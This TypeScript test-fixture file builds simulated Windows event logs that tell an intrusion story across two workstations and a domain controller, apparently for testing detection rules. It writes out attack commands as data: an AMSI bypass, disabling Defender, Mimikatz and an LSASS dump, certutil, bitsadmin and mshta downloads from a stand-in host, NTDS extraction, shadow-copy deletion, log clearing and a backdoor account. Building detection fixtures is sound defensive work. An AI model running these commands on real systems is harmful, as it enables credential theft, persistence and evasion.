/**
 * The story the fixtures tell: one morning on a workstation and a domain controller.
 *
 * A macro opens an encoded PowerShell on WS01, which stays in the registry, turns Defender off, reads
 * LSASS and moves on to DC01 over RDP and a service, where an account is made and the log cleared.
 * Ordinary work stands between, some of it close to what rules look for. `fixture_json.ts` has what
 * WS02 and a Linux host saw.
 */
import type { WindowsEventSpec } from "./evtx_event.ts";
import {
  ADMIN,
  ANNA,
  at,
  browser,
  CALL_TRACE,
  DC01,
  defenderEngine,
  DOWNLOAD,
  dump,
  elevated,
  explorer,
  HELPDESK,
  INTRANET,
  lsass,
  services,
  STAGER,
  stager,
  svchost,
  SYSTEM32,
  tool,
  winword,
  WS01,
  WS02,
} from "./fixture_cast.ts";
import { encodedCommand, type Process, SYSTEM } from "./fixture_hosts.ts";
import {
  administratorAdded,
  auditProcessCreate,
  logCleared,
  logoff,
  logon,
  logonFailure,
  taskCreated,
  userCreated,
} from "./fixture_security.ts";
import {
  createRemoteThread,
  dnsQuery,
  fileCreate,
  networkConnect,
  pipeCreate,
  processAccess,
  processCreate,
  registrySet,
} from "./fixture_sysmon.ts";
import {
  clockSet,
  logStarted,
  malwareFound,
  protectionDisabled,
  rdpAuthenticated,
  scriptBlock,
  serviceInstalled,
  serviceState,
  sessionStarted,
  signaturesUpdated,
} from "./fixture_windows.ts";

/** WS01, Sysmon: the workstation's morning. */
export const WS01_SYSMON: readonly WindowsEventSpec[] = [
  processCreate(WS01, at("07:58:02.117"), svchost),
  processCreate(WS01, at("08:01:44.903"), explorer),
  processCreate(WS01, at("08:02:10.552"), browser),
  dnsQuery(WS01, at("08:02:11.020"), browser, "intranet.corp.example", "10.20.30.15;"),
  networkConnect(WS01, at("08:02:11.101"), browser, INTRANET),
  registrySet(
    WS01,
    at("08:03:00.450"),
    browser,
    "HKU\\S-1-5-21\\SOFTWARE\\Microsoft\\Edge\\BLBeacon\\version",
    "134.0.3124.51",
  ),
  processAccess(WS01, at("08:05:12.001"), defenderEngine, lsass, 0x1000, CALL_TRACE),
  processCreate(WS01, at("08:06:30.600"), tool(6008, "ipconfig.exe", "ipconfig /all", explorer)),
  fileCreate(
    WS01,
    at("08:14:51.300"),
    browser,
    "C:\\Users\\anna.berg\\Downloads\\invoice_0311.docm",
  ),
  processCreate(WS01, at("08:15:03.777"), winword),
  processCreate(WS01, at("08:15:21.204"), stager),
  dnsQuery(WS01, at("08:15:22.010"), stager, "updates.example.net", "203.0.113.66;"),
  networkConnect(WS01, at("08:15:22.145"), stager, STAGER),
  fileCreate(WS01, at("08:15:24.910"), stager, "C:\\Users\\Public\\update.exe"),
  registrySet(
    WS01,
    at("08:15:40.018"),
    stager,
    `HKU\\${ANNA.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate`,
    "C:\\Users\\Public\\update.exe -quiet",
  ),
  processCreate(WS01, at("08:16:02.333"), tool(6604, "whoami.exe", "whoami /all", stager)),
  processCreate(
    WS01,
    at("08:16:05.100"),
    tool(6612, "net.exe", 'net  group "Domain Admins" /domain', stager),
  ),
  processCreate(
    WS01,
    at("08:16:09.871"),
    tool(6620, "nltest.exe", "nltest /domain_trusts /all_trusts", stager),
  ),
  processCreate(
    WS01,
    at("08:17:40.009"),
    tool(
      6700,
      "certutil.exe",
      "certutil -urlcache -split -f http://updates.example.net/t.zip C:\\Users\\Public\\t.zip",
      stager,
    ),
  ),
  registrySet(
    WS01,
    at("08:19:15.420"),
    elevated,
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "DWORD (0x00000001)",
  ),
  pipeCreate(WS01, at("08:20:11.640"), stager, "\\msagent_4f"),
  createRemoteThread(WS01, at("08:20:12.000"), stager, explorer),
  processCreate(WS01, at("08:21:30.125"), dump),
  processAccess(
    WS01,
    at("08:21:30.480"),
    dump,
    lsass,
    0x1fffff,
    `${CALL_TRACE}${SYSTEM32}\\dbgcore.DLL+6cdd|${SYSTEM32}\\comsvcs.dll+2a0f`,
  ),
  fileCreate(WS01, at("08:21:31.002"), dump, "C:\\Windows\\Temp\\l.dmp"),
  processCreate(
    WS01,
    at("08:24:00.000"),
    tool(
      7410,
      "schtasks.exe",
      "schtasks /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\update.exe /ru SYSTEM",
      elevated,
    ),
  ),
  processCreate(
    WS01,
    at("08:40:18.260"),
    tool(7550, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", elevated),
  ),
  processCreate(
    WS01,
    at("08:52:07.700"),
    tool(7660, "wevtutil.exe", "wevtutil cl Security", elevated),
  ),
  processCreate(WS01, at("09:10:00.015"), tool(7701, "notepad.exe", "notepad.exe", explorer)),
];

/** WS01, PowerShell: an administrator's script and the stager's. */
export const WS01_POWERSHELL: readonly WindowsEventSpec[] = [
  scriptBlock(
    WS01,
    at("07:59:30.250"),
    SYSTEM,
    "Get-Service | Where-Object Status -eq 'Running' | Sort-Object Name",
  ),
  scriptBlock(WS01, at("08:15:21.910"), ANNA, DOWNLOAD, 3),
  scriptBlock(
    WS01,
    at("08:15:23.004"),
    ANNA,
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')" +
      ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    3,
  ),
  scriptBlock(
    WS01,
    at("08:19:10.730"),
    ANNA,
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    3,
  ),
  scriptBlock(
    WS01,
    at("08:22:48.119"),
    ANNA,
    "Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'",
  ),
];

/** WS01, Defender. */
export const WS01_DEFENDER: readonly WindowsEventSpec[] = [
  signaturesUpdated(WS01, at("06:00:10.000")),
  malwareFound(
    WS01,
    at("08:15:25.400"),
    ANNA,
    "Trojan:PowerShell/Powersploit.M",
    "C:\\Users\\Public\\update.exe",
  ),
  protectionDisabled(WS01, at("08:19:16.008")),
];

const EXEC = "C:\\Windows\\PSEXESVC.exe";
const psexec: Process = {
  pid: 3980,
  image: EXEC,
  commandLine: EXEC,
  user: SYSTEM,
  parent: services,
};
const remoteShell = tool(4016, "cmd.exe", '"cmd.exe" /c ntdsutil "ac i ntds" ifm', psexec, SYSTEM);

/** DC01, Security: password guessing, then a logon, an account, and the log cleared. */
export const DC01_SECURITY: readonly WindowsEventSpec[] = [
  logon(DC01, at("07:30:00.100"), SYSTEM, 5),
  logon(DC01, at("08:01:40.012"), ANNA, 3, WS01.address),
  logoff(DC01, at("08:01:52.400"), ANNA, 3),
  logonFailure(DC01, at("08:10:03.330"), "anna.berg", 3, WS01.address),
  ...Array.from(
    { length: 12 },
    (_, n) =>
      logonFailure(
        DC01,
        at(`08:30:${String(5 + n * 3).padStart(2, "0")}.${String(120 + n * 7)}`),
        "Administrator",
        3,
        WS01.address,
      ),
  ),
  logon(DC01, at("08:30:44.905"), ADMIN, 3, WS01.address),
  logon(DC01, at("08:31:20.640"), ADMIN, 10, WS01.address),
  auditProcessCreate(DC01, at("08:33:02.000"), psexec),
  auditProcessCreate(DC01, at("08:33:10.250"), remoteShell),
  auditProcessCreate(
    DC01,
    at("08:34:00.781"),
    tool(4200, "net.exe", "net user svc_helpdesk P@ssw0rd! /add", remoteShell, ADMIN),
  ),
  userCreated(DC01, at("08:34:01.002"), ADMIN, HELPDESK),
  administratorAdded(DC01, at("08:34:09.440"), ADMIN, HELPDESK),
  taskCreated(
    DC01,
    at("08:36:15.555"),
    ADMIN,
    "\\Microsoft\\Windows\\UpdateCheck",
    `powershell.exe -enc ${encodedCommand(DOWNLOAD)}`,
  ),
  auditProcessCreate(
    DC01,
    at("08:38:00.010"),
    tool(4310, "mmc.exe", `mmc.exe ${SYSTEM32}\\dsa.msc`, explorer, ADMIN),
  ),
  logCleared(DC01, at("08:55:12.128"), ADMIN),
  logon(DC01, at("09:00:00.300"), SYSTEM, 5),
];

/** DC01, System: services come and go; one of them should not have come. */
export const DC01_SYSTEM: readonly WindowsEventSpec[] = [
  logStarted(DC01, at("05:00:01.000")),
  clockSet(DC01, at("05:00:04.5001234")),
  serviceState(DC01, at("05:00:20.410"), "Windows Update", "running"),
  serviceInstalled(
    DC01,
    at("06:12:00.900"),
    "Google Chrome Elevation Service",
    '"C:\\Program Files\\Google\\Chrome\\Application\\134.0.6998.36\\elevation_service.exe"',
  ),
  serviceInstalled(DC01, at("08:33:01.733"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
  serviceState(DC01, at("08:33:01.950"), "PSEXESVC", "running"),
  serviceInstalled(
    DC01,
    at("08:37:29.310"),
    "WinUpdateHelper",
    `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ${encodedCommand(DOWNLOAD)}`,
  ),
  serviceState(DC01, at("08:54:00.070"), "PSEXESVC", "stopped"),
];

/** DC01, both Terminal Services logs: one administrator from home, one intruder from WS01. */
export const DC01_RDP_AUTHENTICATION: readonly WindowsEventSpec[] = [
  rdpAuthenticated(DC01, at("06:10:30.000"), ADMIN, "10.20.30.5"),
  rdpAuthenticated(DC01, at("08:31:19.800"), ADMIN, WS01.address),
];
export const DC01_RDP_SESSIONS: readonly WindowsEventSpec[] = [
  sessionStarted(DC01, at("06:10:31.500"), ADMIN, "10.20.30.5"),
  sessionStarted(DC01, at("08:31:21.050"), ADMIN, WS01.address),
];

/** DC01, Sysmon: what the service from WS01 did. This log is the one that gets damaged. */
export const DC01_SYSMON: readonly WindowsEventSpec[] = [
  processCreate(DC01, at("05:00:11.300"), svchost),
  processAccess(DC01, at("05:02:40.018"), defenderEngine, lsass, 0x1000, CALL_TRACE),
  fileCreate(DC01, at("08:33:01.502"), svchost, EXEC),
  processCreate(DC01, at("08:33:01.990"), psexec),
  pipeCreate(DC01, at("08:33:02.044"), psexec, "\\PSEXESVC"),
  processCreate(DC01, at("08:33:10.201"), remoteShell),
  processCreate(
    DC01,
    at("08:33:12.480"),
    tool(
      4044,
      "ntdsutil.exe",
      'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\ad" q q',
      remoteShell,
      SYSTEM,
    ),
  ),
  processCreate(
    DC01,
    at("08:34:00.730"),
    tool(4200, "net.exe", "net user svc_helpdesk P@ssw0rd! /add", remoteShell, SYSTEM),
  ),
  networkConnect(DC01, at("08:35:40.600"), psexec, STAGER),
  processCreate(
    DC01,
    at("08:55:11.900"),
    tool(4410, "wevtutil.exe", "wevtutil cl Security", remoteShell, SYSTEM),
  ),
];

const mshta = tool(3310, "mshta.exe", "mshta.exe http://updates.example.net/offer.hta", explorer);

/** WS02, Sysmon: a second workstation opens a link; its events travel as JSON. */
export const WS02_SYSMON: readonly WindowsEventSpec[] = [
  processCreate(WS02, at("08:00:12.000"), explorer),
  processCreate(WS02, at("08:44:10.400"), mshta),
  networkConnect(WS02, at("08:44:10.910"), mshta, STAGER),
  processCreate(WS02, at("08:44:12.300"), {
    ...stager,
    parent: mshta,
    commandLine: `powershell -w hidden -e ${encodedCommand(DOWNLOAD)}`,
  }),
  processCreate(
    WS02,
    at("08:45:30.120"),
    tool(
      3400,
      "bitsadmin.exe",
      "bitsadmin /transfer u http://updates.example.net/u.exe C:\\Users\\Public\\u.exe",
      explorer,
    ),
  ),
  registrySet(
    WS02,
    at("08:46:02.005"),
    mshta,
    `HKU\\${ANNA.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\u`,
    "C:\\Users\\Public\\u.exe",
  ),
  processAccess(
    WS02,
    at("08:47:00.700"),
    stager,
    lsass,
    0x1410,
    `${CALL_TRACE}UNKNOWN(000001F8A3B11C2E)`,
  ),
  processCreate(WS02, at("09:30:00.000"), tool(3550, "calc.exe", "calc.exe", explorer)),
];

/** WS02, Security and System: the same morning from the other logs. */
export const WS02_LOGS: readonly WindowsEventSpec[] = [
  logon(WS02, at("08:00:05.000"), ANNA, 2),
  auditProcessCreate(WS02, at("08:44:10.395"), mshta),
  logonFailure(WS02, at("08:50:01.000"), "Administrator", 3, WS01.address),
  logonFailure(WS02, at("08:50:03.000"), "Administrator", 3, WS01.address),
  logon(WS02, at("08:50:09.000"), ADMIN, 3, WS01.address),
  serviceInstalled(WS02, at("08:50:20.100"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
  sessionStarted(WS02, at("08:52:41.000"), ADMIN, WS01.address),
  protectionDisabled(WS02, at("08:53:00.000")),
  logCleared(WS02, at("08:58:30.000"), ADMIN),
  logoff(WS02, at("09:00:00.000"), ADMIN, 3),
];
